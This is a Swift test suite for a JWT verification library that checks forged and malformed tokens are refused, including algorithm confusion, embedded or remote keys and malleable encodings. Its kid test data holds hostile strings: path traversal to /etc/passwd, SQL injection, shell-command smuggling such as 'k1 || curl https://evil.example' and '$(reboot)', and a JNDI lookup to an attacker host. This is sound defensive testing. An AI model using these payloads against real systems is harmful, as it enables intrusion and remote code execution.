import GatehouseJSON
import Testing

@testable import GatehouseTokens

/// Tokens as attackers write them, each with the check that it fails; nil where it is accepted. All but those of the first test are signed
/// with the issuer's own key: what refuses them is not the signature.
@Suite("Hostile tokens (SEC-08, SEC-09, SEC-14)")
struct HostileTokenTests {
    private static let header = JSONValue.object(TestIssuer.header(.hs256)).serialized
    private static let claims = JSONValue.object(TestIssuer.claims).serialized
    private static let alphabet = Array("ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_")

    private func refusal(header: String = HostileTokenTests.header, claims: String = HostileTokenTests.claims) throws -> String? {
        let issuer = try TestIssuer(.hs256)
        return issuer.refusal(of: try issuer.token(header: header, claims: claims))
    }

    // MARK: Base64url

    /// All texts that a lenient decoder reads as the same bytes as `text`.
    private func spellings(of text: String) -> [String] {
        guard let last = text.last, let value = Self.alphabet.firstIndex(of: last) else { return [] }
        let unused = [0, 0, 4, 2][text.count % 4]
        let start = String(text.dropLast())
        var spellings: [String] = []
        for bits in 0..<(1 << unused) {
            let other = ((value >> unused) << unused) | bits
            if other != value { spellings.append(start + String(Self.alphabet[other])) }
        }
        if unused > 0 { spellings.append(text + String(repeating: "=", count: unused / 2)) }
        let standard = String(text.map { $0 == "-" ? "+" : $0 == "_" ? "/" : $0 })
        if standard != text { spellings.append(standard) }
        for junk in ["\n", " ", "\u{0}"] { spellings.append(text + junk) }
        spellings.append("\(text.prefix(4))\r\n\(text.dropFirst(4))")
        return spellings
    }

    @Test("SEC-14: a signature, header or claims in another spelling of the same bytes", arguments: SigningAlgorithm.allCases)
    func malleableBase64(algorithm: SigningAlgorithm) throws {
        let issuer = try TestIssuer(algorithm)
        var counts = [0, 0, 0]
        for padding in 0..<3 {
            var (header, claims) = (TestIssuer.header(algorithm), TestIssuer.claims)
            header["x"] = .string(String(repeating: "~", count: padding))
            claims["x"] = .string(String(repeating: "~", count: padding))
            let token = try issuer.token(header, claims)
            #expect(issuer.refusal(of: token) == nil)
            let parts = token.split(separator: ".").map(String.init)
            for part in 0..<3 {
                for spelling in spellings(of: parts[part]) {
                    var changed = parts
                    changed[part] = spelling
                    #expect(issuer.refusal(of: changed.joined(separator: ".")) == "malformed:base64", "part \(part): \(spelling)")
                    counts[part] += 1
                }
            }
        }
        // Three lengths of header and of claims: one of them has no bits left over, one has two, one has four.
        #expect(counts[0] >= 3 * 4 + 3 + 15 + 2 && counts[1] >= 3 * 4 + 3 + 15 + 2 && counts[2] >= 3 * 4)
    }

    @Test(
        "SEC-14: what is a token in another form is none here",
        arguments: [
            ("JWE", "a.b.c.d.e", "malformed:parts"), ("detached", "HEADER..SIGNATURE", "malformed:parts"),
            ("unsigned", "HEADER.CLAIMS.", "malformed:parts"), ("two parts", "HEADER.CLAIMS", "malformed:parts"),
            ("flattened JSON", #"{"payload":"CLAIMS","protected":"HEADER","signature":"SIGNATURE"}"#, "malformed:parts"),
            ("general JSON", #"{"payload":"CLAIMS","signatures":[{"protected":"HEADER","signature":"SIGNATURE"}]}"#, "malformed:parts"),
            ("a token inside a token", "HEADER.TOKEN64.SIGNATURE", "malformed:json"), ("in base64url", "TOKEN64", "malformed:parts"),
            ("percent-encoded dots", "HEADER%2ECLAIMS%2ESIGNATURE", "malformed:parts"),
            ("full-width dots", "HEADER。CLAIMS。SIGNATURE", "malformed:parts"), ("twice", "TOKEN.TOKEN", "malformed:parts"),
            ("two in a list", "TOKEN,TOKEN", "malformed:parts"), ("a signature too many", "TOKEN.SIGNATURE", "malformed:parts"),
            ("header and claims swapped", "CLAIMS.HEADER.SIGNATURE", "header:alg"),
            ("header twice", "HEADER.HEADER.SIGNATURE", "unknown_issuer"),
            ("unencoded", "HEADERTEXT.CLAIMSTEXT.SIGNATURE", "malformed:base64"),
            ("the scheme left on", "Bearer TOKEN", "malformed:base64"), ("in quotes", "\"TOKEN\"", "malformed:base64"),
        ])
    func otherForms(name: String, form: String, expected: String) throws {
        let issuer = try TestIssuer(.hs256)
        let token = try issuer.token(header: Self.header, claims: Self.claims)
        let parts = token.split(separator: ".").map(String.init)
        var text = form
        for (word, replacement) in [
            ("HEADERTEXT", Self.header), ("CLAIMSTEXT", Self.claims.filter { $0 != "." }),
            ("TOKEN64", Base64.url.encode(Array(token.utf8))),
            ("TOKEN", token), ("HEADER", parts[0]), ("CLAIMS", parts[1]), ("SIGNATURE", parts[2]),
        ] {
            // The words are not base64 of anything here, and none is within what another one stands for.
            text = text.split(separator: word, omittingEmptySubsequences: false).joined(separator: replacement)
        }
        #expect(issuer.refusal(of: text) == expected, "\(name)")
    }

    // MARK: Members

    @Test(
        "SEC-14: a claim or header member that stands there twice, wherever and however it is written",
        arguments: [
            ("alg", #""HS256""#), ("alg", #""none""#), ("kid", #""k1""#), ("kid", "null"), ("typ", #""at+jwt""#),
            ("iss", #""https://evil""#),
            ("iss", #""https://idp.example.com""#), ("sub", #""root""#), ("aud", #"["gatehouse"]"#), ("exp", "9999999999"), ("exp", "null"),
            ("iat", "0"), ("jti", #""j2""#), ("client_id", "1"),
        ])
    func twice(name: String, value: String) throws {
        let isHeader = ["alg", "kid", "typ"].contains(name)
        let good = isHeader ? Self.header : Self.claims
        let escaped = name.unicodeScalars.map { "\\u00" + String($0.value, radix: 16) }.joined()
        for spelling in [name, escaped, "\\u00" + String(name.utf8.first ?? 0, radix: 16) + name.dropFirst()] {
            let member = "\"\(spelling)\":\(value)"
            for text in [
                good.dropLast() + ",\(member)}", "{\(member),\(good.dropFirst())", good.dropLast() + ",\"x\":{\(member),\(member)}}",
            ] {
                let found = isHeader ? try refusal(header: String(text)) : try refusal(claims: String(text))
                #expect(found == "malformed:json", "\(text)")
            }
        }
    }

    @Test(
        "SEC-12: a member that only looks like a claim has no effect, and does not stand in for it",
        arguments: [
            "EXP", "Exp", "exp ", " exp", "exp\\u0000", "\\u0000exp", "e\\u200bxp", "\\uff45xp", "exp\\u0301", "claims/exp", "/exp",
        ])
    func lookalikes(name: String) throws {
        let more = "\(Self.claims.dropLast()),\"\(name)\":1}"
        #expect(try refusal(claims: more) == nil)
        let instead = Self.claims.replacing("\"exp\":", with: "\"\(name)\":")
        #expect(instead != Self.claims)
        #expect(try refusal(claims: instead) == "missing_claim:exp")
    }

    // MARK: Numbers

    @Test(
        "SEC-12, SEC-30: exp as large, as small or as long as JSON can write it",
        arguments: [
            ("1800000600", nil), ("1800000600.0", nil), ("1.8000006e9", nil), ("18000006E2", nil), ("18000006000e-1", nil),
            ("253402300799", nil), ("253402300799.999", nil), ("1800000000.0000000001", "expired"), ("253402300800", "claim_type:exp"),
            ("9007199254740993", "claim_type:exp"), ("9223372036854775807", "claim_type:exp"), ("9223372036854775808", "claim_type:exp"),
            ("18446744073709551616", "claim_type:exp"), ("-9223372036854775808", "claim_type:exp"),
            ("-9223372036854775809", "claim_type:exp"), ("1e18", "claim_type:exp"), ("1e308", "claim_type:exp"),
            ("-1e308", "claim_type:exp"),
            ("-1", "claim_type:exp"), ("-0.0001", "claim_type:exp"), ("0", "expired"), ("-0", "expired"), ("-0.0", "expired"),
            ("0e0", "expired"), ("1e-300", "expired"), ("1e-400", "expired"), ("1e309", "malformed:json"), ("-1e309", "malformed:json"),
            ("1e99999999999999999999", "malformed:json"), ("0x7fffffff", "malformed:json"), ("01800000600", "malformed:json"),
            ("+1800000600", "malformed:json"), ("1800000600.", "malformed:json"), ("1_800_000_600", "malformed:json"),
            ("1800000600L", "malformed:json"), ("NaN", "malformed:json"), ("Infinity", "malformed:json"), ("-Infinity", "malformed:json"),
            ("1800000600 1", "malformed:json"), ("\u{0661}\u{0668}", "malformed:json"), ("", "malformed:json"),
        ] as [(String, String?)])
    func numbers(text: String, expected: String?) throws {
        let claims = Self.claims.replacing("\"exp\":1800000600", with: "\"exp\":" + text)
        #expect(try refusal(claims: claims) == expected)
    }

    @Test("SEC-30: a number of thousands of characters is refused for its length, whatever its value", arguments: ["exp", "iat", "x"])
    func longNumbers(name: String) throws {
        var claims = TestIssuer.claims
        claims[name] = nil
        let others = JSONValue.object(claims).serialized.dropLast()
        let nines = String(repeating: "9", count: 3000)
        let zeros = String(repeating: "0", count: 3000)
        for text in [
            nines, "-" + nines, "1" + zeros, "0." + nines, "0." + zeros + "1", "1" + zeros + "e-2991", "0." + zeros + "18e3010",
            "1e" + nines,
            "1e-" + nines, "1e" + zeros + "1", "1800000600." + zeros,
        ] {
            #expect(try refusal(claims: "\(others),\"\(name)\":\(text)}") == "malformed:json", "\(text.prefix(8))… of \(text.count)")
        }
    }

    // MARK: The key

    @Test("SEC-09: a kid that is a path, an address, a query, a pattern or another key's name finds no key")
    func keyIdentifiers() throws {
        let keys = [try TestKeys.verificationKey(.es256, kid: "k1"), try TestKeys.verificationKey(.es384, kid: "k2")]
        let verifier = try TokenVerifier(
            [
                IssuerConfiguration(
                    name: "corp", iss: TestIssuer.iss, audience: ["gatehouse"], keys: keys.map { .key($0) }, algorithms: [.es256, .es384])
            ], cacheCapacity: 0)
        func refusal(_ kid: JSONValue) throws -> String? {
            var header = TestIssuer.header(.es256)
            header["kid"] = kid
            do throws(TokenRefusal) {
                _ = try verifier.verify((try? TestIssuer(.es256).token(header)) ?? "", now: TestKeys.now)
                return nil
            } catch { return error.reason.name }
        }
        let strangers = [
            "../../../../dev/null", "/dev/null", "/proc/sys/kernel/randomize_va_space", "file:///etc/passwd", "certs/corp.jwks.json",
            "k1.pem",
            "./k1", "k1/", "k1/../k1", "k1\u{0}", "k1\u{0}.pem", "\u{0}", "k1 ", " k1", "k1\n", "K1", "k%31", "k1%00", "*", "k?", "k.",
            "^k1$",
            "k1|k2", "k1,k2", "k1;k2", "[\"k1\"]", "' OR '1'='1", "k1' UNION SELECT 'secret' -- ", "k1 || curl https://evil.example",
            "$(reboot)", "`id`", "${jndi:ldap://evil.example/a}", "{{7*7}}", "https://evil.example/jwks.json", "//evil.example/jwks",
            "corp/k1",
            "https://idp.example.com#k1", "0", "1", "-1", "null", "true", "undefined", "__proto__", "constructor", "k\u{301}1", "\u{FF4B}1",
            "k\u{200B}1", "\u{202E}1k", "k1\u{FEFF}", "κ1", String(repeating: "k1", count: 128),
        ]
        for kid in strangers { #expect(try refusal(.string(kid)) == "unknown_key", "\(kid)") }
        for kid in [[], ["k1"], ["k1": "k1"], 1, 0, true, false, nil, "", 1.5] as [JSONValue] { #expect(try refusal(kid) == "header:kid") }
        #expect(try refusal("k2") == "alg_mismatch")
        #expect(try refusal("k1") == nil)
    }

    @Test(
        "SEC-08: a public key of any kind is no HMAC secret, in any form of it",
        arguments: SigningAlgorithm.allCases.filter { $0.family != .hmac }, [SigningAlgorithm.hs256, .hs384, .hs512])
    func publicKeyAsSecret(algorithm: SigningAlgorithm, header: SigningAlgorithm) throws {
        let issuer = try TestIssuer(algorithm)
        let pem = TestKeys.bytes(try KeyPair.publicPEM(of: TestKeys.secret(algorithm)))
        let key = try TestKeys.verificationKey(algorithm)
        let jwk = try key.publicJWK()
        let jwks = JSONValue.object(["keys": [.object(jwk)]]).serialized
        var secrets = [pem, Array(pem.dropLast()), Array(JSONValue.object(jwk).serialized.utf8), Array(jwks.utf8), Array("k1".utf8), [0]]
        // The body of the PEM text is the key in DER.
        let body = String(decoding: pem, as: UTF8.self).split(separator: "\n").filter { !$0.hasPrefix("-") }.joined()
        secrets.append(Array(body.utf8))
        let unpadded = String(body.filter { $0 != "=" }.map { $0 == "+" ? "-" : $0 == "/" ? "_" : $0 })
        secrets.append(try #require(Base64.url.decode(unpadded.utf8)))
        for name in ["n", "x"] {
            guard case .string(let text)? = jwk[name], let bytes = Base64.url.decode(text.utf8) else { continue }
            secrets += [bytes, Array(text.utf8)]
        }
        let input = try issuer.token(TestIssuer.header(header)).split(separator: ".").prefix(2).joined(separator: ".")
        for secret in secrets {
            let code = try TestSignature.hmac(Array(input.utf8), key: secret, algorithm: header)
            #expect(issuer.refusal(of: input + "." + Base64.url.encode(code)) == "alg_mismatch")
        }
    }

    @Test(
        "SEC-C: a key that the token brings along, or points to, verifies nothing (CVE-2018-0114)",
        arguments: SigningAlgorithm.allCases.filter { $0.family != .hmac }, [nil, "k1", "evil"])
    func ownKey(algorithm: SigningAlgorithm, kid: String?) throws {
        let issuer = try TestIssuer(algorithm)
        let pem = try KeyPair.privatePEM(for: algorithm, rsaBits: 2048)
        let jwk = JSONValue.object(try VerificationKey(pem: pem, algorithm: algorithm, kid: kid).publicJWK())
        for (name, value) in [
            ("jwk", jwk), ("jku", "https://evil.example/jwks.json"), ("x5u", "https://evil.example/cert.pem"), ("x5c", ["MIIB"]),
            ("x5t", "AAAA"), ("x5t#S256", "AAAA"), ("keys", [jwk]),
        ] as [(String, JSONValue)] {
            var header = TestIssuer.header(algorithm, kid: kid)
            header[name] = value
            var claims = TestIssuer.claims
            claims["jwks_uri"] = "https://evil.example/jwks.json"
            let token = try TestSignature.compact(
                header: JSONValue.object(header).serialized, claims: JSONValue.object(claims).serialized, secret: pem, algorithm: algorithm)
            #expect(issuer.refusal(of: token) == (kid == "evil" ? "unknown_key" : "bad_signature"), "\(name)")
        }
    }

    @Test("SEC-09: one issuer's secret or kid does not serve another's tokens, of whatever family")
    func otherIssuer() throws {
        let families: [SigningAlgorithm] = [.hs256, .rs256, .ps256, .es256, .edDSA]
        func iss(_ algorithm: SigningAlgorithm) -> String { "https://" + algorithm.rawValue }
        let verifier = try TokenVerifier(
            families.map {
                IssuerConfiguration(
                    name: $0.rawValue, iss: iss($0), audience: ["gatehouse"],
                    keys: [.key(try TestKeys.verificationKey($0, kid: "k-" + $0.rawValue))], algorithms: [$0])
            }, cacheCapacity: 0)
        for claimed in families {
            for signer in families {
                for kid in [nil, "k-" + claimed.rawValue, "k-" + signer.rawValue] {
                    var claims = TestIssuer.claims
                    claims["iss"] = .string(iss(claimed))
                    let token = try TestSignature.compact(
                        header: JSONValue.object(TestIssuer.header(signer, kid: kid)).serialized,
                        claims: JSONValue.object(claims).serialized, secret: TestKeys.secret(signer), algorithm: signer)
                    let isOwn = kid == nil || kid == "k-" + claimed.rawValue
                    let expected: String? = claimed == signer ? nil : isOwn ? "alg_mismatch" : "unknown_key"
                    do throws(TokenRefusal) {
                        _ = try verifier.verify(token, now: TestKeys.now)
                        #expect(expected == nil)
                    } catch { #expect(error.reason.name == expected && error.issuer == claimed.rawValue) }
                }
            }
        }
    }
}
